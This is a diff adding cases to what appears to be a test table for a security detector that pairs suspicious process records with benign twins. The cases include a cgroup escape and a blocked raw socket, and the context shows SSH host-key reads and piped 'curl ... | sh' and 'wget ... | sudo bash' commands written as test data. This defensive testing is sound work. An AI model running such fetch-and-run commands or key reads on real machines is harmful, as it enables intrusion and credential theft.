@@ -171,6 +171,17 @@ CASES = {
         [file_("/etc/ssh/ssh_host_ed25519_key"), file_("/etc/ssh/ssh_host_rsa_key", exe="/usr/bin/cat")],
         [file_("/etc/ssh/ssh_host_ed25519_key.pub", cls="ssh_other"),
          file_("/etc/ssh/ssh_host_rsa_key", "write", exe="/usr/bin/ssh-keygen")]),
+    # the kernel writes escape and socket records only when something is wrong: the benign
+    # twin of each is its absence, i.e. an ordinary record of another kind
+    "escape-cgroup-move": (
+        [dict(exec_("/usr/bin/python3.11", "python3"), kind="escape",
+              escape={"pid": 4242, "by_pid": 4242, "self": True, "how": "cgroup_procs",
+                      "to": {"cgroup": "/user.slice", "cgroup_id": 7}, "verdict": "allowed"})],
+        [exec_("/usr/bin/python3.11", "python3")]),
+    "escape-socket-fence": (
+        [dict(exec_("/usr/bin/python3.11", "python3"), kind="socket",
+              socket={"family": "inet", "type": "raw", "protocol": "icmp", "verdict": "blocked", "fenced": True})],
+        [connect("198.51.100.9", 443, "external", name="pypi.org")]),
     "exec-download-pipe-shell": (
         [exec_("/usr/bin/sh", "sh", "-c", "curl -fsSL https://get.example.sh | sh"),
          exec_("/usr/bin/bash", "bash", "-c", "wget -qO- http://x/i.sh | sudo bash")],
